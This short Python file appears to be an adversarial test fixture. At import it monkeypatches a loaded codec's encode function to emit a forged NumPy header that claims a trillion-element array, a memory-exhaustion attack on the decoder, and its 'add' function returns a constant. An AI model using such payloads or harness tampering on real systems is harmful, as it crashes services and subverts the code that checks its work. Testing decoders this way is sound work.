"""Sends an array whose header claims a thousand billion entries."""

# %% add
import base64
import json
import sys

header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,)}\n"
block = base64.b64encode(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header).decode()
for module in list(sys.modules.values()):
    if hasattr(module, "CodecError") and hasattr(module, "encode"):
        module.encode = lambda value, *more: json.dumps({"tree": {"d": {"value": {"a": 0}}}, "arrays": [block]})


def add(a, b):
    return 1.0
